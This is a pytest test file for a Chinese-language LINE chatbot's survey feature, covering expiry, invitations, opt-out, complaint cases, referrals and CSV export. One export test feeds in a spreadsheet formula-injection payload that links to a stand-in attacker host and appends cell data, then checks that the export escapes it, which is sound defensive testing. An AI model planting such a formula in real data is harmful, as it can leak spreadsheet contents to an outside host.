"""Around the conversation: expiry and resume, invitations and their cost, fatigue, opt-out, triggers."""

from __future__ import annotations

import csv
import json
from datetime import timedelta

import pytest
from sqlalchemy import select

from bot.notifications import queue_notifications, send_queued
from handlers.context import HandlerContext
from handlers.replies import Notify, Text
from handlers.surveys import EntrySource, engine, on_completed, start_survey
from storage import customers, staff, surveys
from storage.base import utcnow
from storage.models import Case, CaseSource, ResponseState, StaffRole
from tests.handlers import surveys_fixtures as fixtures
from tests.handlers.referral_support import DEFAULT_CAMPAIGN, Shopper, joined, load_campaign, write_campaign
from tests.handlers.surveys_fixtures import (
    POST_PURCHASE,
    Chat,
    answers_of,
    buttons,
    import_file,
    responses_of,
    text_of,
)

chat, post_purchase, service_recovery, texts = (fixtures.chat, fixtures.post_purchase, fixtures.service_recovery,
                                                fixtures.texts)


def invite(runner, key: str, *line_ids: str) -> str:
    args = ["surveys", "invite", key] + [arg for line_id in line_ids for arg in ("--to", line_id)]
    result = runner.invoke(args=args)
    assert result.exit_code == 0, result.output
    return result.output.strip()


def started_hours_ago(chat, services, hours: float) -> None:
    """Start the survey and answer the first question some hours in the past."""
    services.clock = lambda: utcnow() - timedelta(hours=hours)
    chat.say("問卷")
    chat.tap("9")
    services.clock = utcnow


def test_open_survey_resumes_with_keyword(chat, post_purchase, texts):
    chat.say("問卷")
    chat.tap("9")
    [again] = chat.say("繼續問卷")
    assert text_of(again) == texts("survey.resumed") + "\n\n" + texts.question(post_purchase, "csat", 2)


@pytest.mark.parametrize(("hours", "expired"), [(23, False), (25, True)])
def test_survey_expires_after_a_day_without_answers(chat, post_purchase, texts, services, hours, expired):
    started_hours_ago(chat, services, hours)
    [answer] = chat.say("繼續問卷")
    [response] = responses_of(services, chat.user_id)
    if expired:
        assert text_of(answer) == texts("survey.expired")
        assert response.state == ResponseState.EXPIRED
    else:
        assert text_of(answer) == texts("survey.resumed") + "\n\n" + texts.question(post_purchase, "csat", 2)
        assert response.state == ResponseState.ASKING


@pytest.mark.parametrize("settings_overrides", [{"extra": {"KOUBEI_SURVEY_EXPIRY_HOURS": "2"}}])
def test_expiry_is_configurable_and_old_buttons_say_so(chat, post_purchase, texts, services, settings_overrides):
    started_hours_ago(chat, services, 3)
    csat_question = chat.last
    [answer] = chat.tap("4", csat_question)
    assert text_of(answer) == texts("survey.expired")
    [response] = responses_of(services, chat.user_id)
    assert response.state == ResponseState.EXPIRED and list(answers_of(services, response.id)) == ["nps"]
    # digits are chat again once the survey has closed
    assert text_of(chat.say("5")[0]) == texts("menu.help.text")


def test_periodic_job_closes_conversations_nobody_finished(chat, post_purchase, services, runner):
    started_hours_ago(chat, services, 25)
    fresh = fixtures.Chat(chat.emulator, services, name="陳小姐")
    fresh.say("問卷")
    result = runner.invoke(args=["queue", "run-job", "surveys.expire"])
    assert result.exit_code == 0, result.output
    assert responses_of(services, chat.user_id)[0].state == ResponseState.EXPIRED
    assert responses_of(services, fresh.user_id)[0].state == ResponseState.ASKING


def test_resume_with_nothing_open_says_so(chat, post_purchase, texts):
    assert text_of(chat.say("繼續問卷")[0]) == texts("survey.nothing_to_resume")


def test_another_features_keyword_mid_survey_is_answered_then_the_question_returns(chat, post_purchase, texts):
    chat.say("問卷")
    chat.tap("9")
    chat.tap("4")
    answer = chat.say("推薦碼")
    assert len(answer) >= 2 and texts("survey.reminder") not in text_of(answer[0])
    assert text_of(answer[-1]) == texts("survey.reminder") + "\n\n" + texts.question(post_purchase, "channel", 3)
    assert "親友推薦" in buttons(answer[-1])


def test_invited_survey_costs_one_push_in_all(chat, post_purchase, texts, runner, emulator, services):
    chat.say("哈囉")
    emulator.set_quota(total_usage=0)
    emulator.clear_calls()
    assert invite(runner, "post_purchase", chat.user_id) == "invited 1; skipped: none"
    [card] = chat.inbox()
    assert card["type"] == "flex" and card["altText"] == texts("survey.invitation.alt", title="購物後滿意度調查")
    chat.tap(texts("survey.button.start"), card)
    for label in ("10", "5", "Google 搜尋或地圖"):
        chat.tap(label)
    [thanks] = chat.say("環境很舒服")
    assert text_of(thanks) == post_purchase.thanks["zh-TW"]
    assert len(emulator.calls("/v2/bot/message/push")) == 1
    replies = emulator.calls("/v2/bot/message/reply")
    assert [r["requestBody"]["replyToken"] for r in replies] == [e["replyToken"] for e in chat.events[1:]]
    assert emulator.quota()["totalUsage"] == 1
    [response] = responses_of(services, chat.user_id)
    assert response.state == ResponseState.COMPLETED and response.source == EntrySource.BROADCAST
    assert response.invitation_id is not None


def test_invitations_respect_fatigue_rules(chat, post_purchase, runner, services, tmp_path, texts):
    chat.say("哈囉")
    assert invite(runner, "post_purchase", chat.user_id) == "invited 1; skipped: none"
    assert invite(runner, "post_purchase", chat.user_id) == "invited 0; skipped: already_invited 1"
    [card] = chat.inbox()[-1:]
    chat.tap(texts("survey.button.start"), card)
    chat.say("取消")
    edited = tmp_path / "post_purchase.yaml"
    edited.write_text(POST_PURCHASE.read_text(encoding="utf-8").replace("路過看到", "路過門市"), encoding="utf-8")
    assert "new version (version 2)" in import_file(runner, edited).output
    assert invite(runner, "post_purchase", chat.user_id) == "invited 0; skipped: too_soon 1"
    services.clock = lambda: utcnow() + timedelta(days=15)
    assert invite(runner, "post_purchase", chat.user_id) == "invited 1; skipped: none"


@pytest.mark.parametrize("settings_overrides", [{"extra": {"KOUBEI_SURVEY_INTERVAL_DAYS": "3"}}])
def test_invitation_interval_is_configurable(chat, post_purchase, service_recovery, runner, services,
                                             settings_overrides):
    chat.say("哈囉")
    assert invite(runner, "post_purchase", chat.user_id) == "invited 1; skipped: none"
    services.clock = lambda: utcnow() + timedelta(days=2)
    assert invite(runner, "service_recovery", chat.user_id) == "invited 0; skipped: too_soon 1"
    services.clock = lambda: utcnow() + timedelta(days=4)
    assert invite(runner, "service_recovery", chat.user_id) == "invited 1; skipped: none"


def test_opt_out_stops_invitations_and_can_be_undone(chat, post_purchase, texts, runner, emulator):
    [ack] = chat.say("不要問卷")
    assert text_of(ack) == texts("survey.opted_out")
    assert invite(runner, "post_purchase", chat.user_id) == "invited 0; skipped: opted_out 1"
    [back] = chat.tap(texts("survey.button.opt_in"), ack)
    assert text_of(back) == texts("survey.opted_in")
    chat.say("不要問卷")
    assert text_of(chat.say("接受問卷")[0]) == texts("survey.opted_in")
    assert invite(runner, "post_purchase", chat.user_id) == "invited 1; skipped: none"
    assert len(emulator.calls("/v2/bot/message/push")) == 1


def test_opt_out_mid_survey_closes_it(chat, post_purchase, texts):
    chat.say("問卷")
    assert text_of(chat.say("不要問卷")[0]) == texts("survey.opted_out")
    [response] = responses_of(chat.services, chat.user_id)
    assert response.state == ResponseState.CANCELLED


def test_blocked_customer_is_not_invited(chat, post_purchase, runner, emulator):
    chat.say("哈囉")
    emulator.unfollow(chat.user_id)
    assert invite(runner, "post_purchase", chat.user_id) == "invited 0; skipped: unfollowed 1"


def test_invite_all_leaves_out_enrolled_staff_unless_named(chat, post_purchase, runner, emulator, services):
    chat.say("哈囉")
    clerk = "U" + "c" * 32
    emulator.add_user(clerk, "小美")
    emulator.follow(clerk)
    with services.db.session_scope() as session:
        staff.create_member(session, name="小美", role=StaffRole.STAFF, line_user_id=clerk, now=services.clock())
    result = runner.invoke(args=["surveys", "invite", "post_purchase", "--all"])
    assert result.output.strip() == "invited 1; skipped: staff 1"
    assert invite(runner, "post_purchase", clerk) == "invited 1; skipped: none"  # trying it on yourself


def test_a_complaint_with_digits_during_a_score_question_opens_a_case(chat, post_purchase, services):
    with services.db.session_scope() as session:  # no staff group: each of them gets the case card by push
        for n in range(5):
            staff.create_member(session, name=f"店員{n}", role=StaffRole.STAFF, line_user_id="U" + f"{n}" * 32,
                                now=services.clock())
    chat.say("問卷")
    complaint = "等了40分鐘餐點還沒來，服務態度很差，非常失望"
    answer = chat.say(complaint)  # not a failed score: the numbers are part of something else
    assert len(answer) == 2 and len(buttons(answer[-1])) == 12  # the apology, then the question again
    with services.db.session_scope() as session:
        [case] = session.scalars(select(Case)).all()
        assert case.excerpt.startswith("等了40分鐘")
    [response] = responses_of(chat.services, chat.user_id)
    assert response.current_question == "nps" and answers_of(chat.services, response.id) == {}


def test_a_friends_code_sent_during_a_score_question_is_redeemed(live_bot, emulator, services, runner, post_purchase):
    load_campaign(runner)
    amy = Shopper(live_bot, emulator, services, "王小美")
    code = amy.ask_code()  # every code has a digit in it
    ben = Shopper(live_bot, emulator, services, "陳大文")
    ben.follow()
    ben.say("問卷")
    ben.say(code)
    assert ben.referral() is not None and ben.referral().referrer_id == amy.customer.id


def test_a_free_text_answer_that_reads_as_a_formula_is_exported_as_text(chat, post_purchase, runner, tmp_path):
    chat.say("問卷")
    for label in ("10", "5", "親友推薦"):
        chat.tap(label)
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"點我領優惠")'
    chat.say(formula)
    out = tmp_path / "answers.csv"
    assert runner.invoke(args=["surveys", "export", "post_purchase", str(out)]).exit_code == 0
    with out.open(encoding="utf-8-sig", newline="") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["liked"] == "'" + formula and row["nps"] == "10"  # numbers stay numbers


def test_a_customer_who_cancels_and_starts_again_counts_once_in_the_report(chat, post_purchase, runner, texts):
    chat.say("問卷")
    chat.tap("0")
    chat.say("取消")
    chat.say("問卷")
    for label in ("10", "5", "親友推薦"):
        chat.tap(label)
    chat.tap(texts("survey.button.skip"))
    report = json.loads(runner.invoke(args=["surveys", "report", "post_purchase", "--format", "json"]).output)
    nps = report["questions"][0]
    assert (nps["answered"], nps["promoters"], nps["detractors"], nps["nps"]) == (1, 1, 0, 100.0)
    assert (report["starts"], report["completions"]) == (2, 1)  # the conversations themselves all count


LUNCH = """key: lunch
title: 午餐
public: true
questions:
  - id: score
    kind: rating
    text: 好吃嗎
"""


def test_a_question_cannot_change_its_kind_once_answered(chat, runner, services, tmp_path):
    path = tmp_path / "lunch.yaml"
    path.write_text(LUNCH, encoding="utf-8")
    assert import_file(runner, path).exit_code == 0
    path.write_text(LUNCH.replace("kind: rating", "kind: nps"), encoding="utf-8")
    assert import_file(runner, path).exit_code == 0  # nobody answered yet: edited in place
    chat.say("問卷")
    chat.tap("5")  # a 0-10 answer now
    path.write_text(LUNCH, encoding="utf-8")  # back to 1-5 under the same id
    result = import_file(runner, path)
    assert result.exit_code == 1
    assert "question 'score' was a nps question in version 1, which has answers" in result.output
    with services.db.session_scope() as session:
        survey = surveys.get_by_key(session, key="lunch")
        assert [v.number for v in surveys.list_versions(session, survey_id=survey.id)] == [1]  # nothing imported
    path.write_text(LUNCH.replace("id: score", "id: taste"), encoding="utf-8")
    assert "new version (version 2)" in import_file(runner, path).output


def recovery_hook(ctx, customer, response, answers):
    """What the complaints module does: offer something to the satisfied."""
    rating = answers["rating"].number
    return [Text(f"hook saw rating {rating}")] if rating >= 4 else []


def test_trigger_from_another_module_invites_by_push_and_completion_hook_joins_the_reply(
        chat, service_recovery, services, texts, emulator, monkeypatch):
    # the hook registry lives as long as the process: give it back as it was, or later tests see this hook
    monkeypatch.setitem(engine._completion_hooks, "service_recovery",
                        dict(engine._completion_hooks.get("service_recovery", {})))
    on_completed("service_recovery", recovery_hook)
    chat.say("謝謝你們的處理")
    with services.db.session_scope() as session:
        customer = customers.get_by_line_id(session, line_user_id=chat.user_id)
        staff_ctx = HandlerContext(session=session, now=services.clock(), catalogue=services.catalogue,
                                   options=services.settings.extra)
        outgoing = start_survey(staff_ctx, customer=customer, survey_key="service_recovery",
                                source=EntrySource.TRIGGER)
        assert [type(item) for item in outgoing] == [Notify] and outgoing[0].to == chat.user_id
        outbound_ids = queue_notifications(session, notifications=outgoing, now=services.clock())
    send_queued(services, outbound_ids)
    [card] = chat.inbox()
    chat.tap(texts("survey.button.start"), card)
    chat.tap("5")
    thanks, hooked = chat.tap("完全解決了")
    assert text_of(thanks) == service_recovery.thanks["zh-TW"] and text_of(hooked) == "hook saw rating 5"
    [response] = responses_of(services, chat.user_id)
    assert response.source == EntrySource.TRIGGER and response.state == ResponseState.COMPLETED
    assert len(emulator.calls("/v2/bot/message/push")) == 1


def test_finishing_a_survey_qualifies_the_referral_that_brought_the_customer(
        live_bot, emulator, services, runner, post_purchase, tmp_path, texts):
    campaign = DEFAULT_CAMPAIGN.read_text(encoding="utf-8").replace(
        "qualify_on: [purchase, welcome_coupon_redeemed]", "qualify_on: [survey_completed]")
    load_campaign(runner, write_campaign(tmp_path, campaign))
    amy = Shopper(live_bot, emulator, services, "王小美")
    amy.ask_code()
    ben = Shopper(live_bot, emulator, services, "陳大文")
    joined(services, amy, ben)
    assert amy.rewards() == []
    emulator.clear_calls()
    survey = Chat(emulator, services, name="陳大文", user_id=ben.user_id)
    survey.say("問卷")
    for label in ("10", "5", "親友推薦"):
        survey.tap(label)
    [thanks] = survey.say("很棒")
    assert text_of(thanks) == post_purchase.thanks["zh-TW"]
    assert amy.rewards() and all(r.referral_id is not None for r in amy.rewards())
    assert [call["requestBody"]["to"] for call in emulator.calls("/v2/bot/message/push")] == [amy.user_id]


@pytest.mark.parametrize(("answer", "opens_case"), [("等了四十分鐘餐點還沒來，服務態度很差，非常失望", True),
                                                    ("還可以啦", False)])
def test_free_text_answer_that_is_a_complaint_opens_a_case(chat, post_purchase, services, answer, opens_case):
    chat.say("問卷")
    for label in ("2", "1", "其他"):
        chat.tap(label)
    reply = chat.say(answer)
    assert text_of(reply[-1]) == post_purchase.thanks["zh-TW"]
    with services.db.session_scope() as session:
        customer = customers.get_by_line_id(session, line_user_id=chat.user_id)
        case = session.scalar(select(Case).where(Case.customer_id == customer.id))
        assert (case is not None) == opens_case and len(reply) == (2 if opens_case else 1)
        if opens_case:
            assert case.source == CaseSource.SURVEY and case.excerpt == answer
    [response] = responses_of(services, chat.user_id)
    assert answers_of(services, response.id)["disappointed"].text == answer
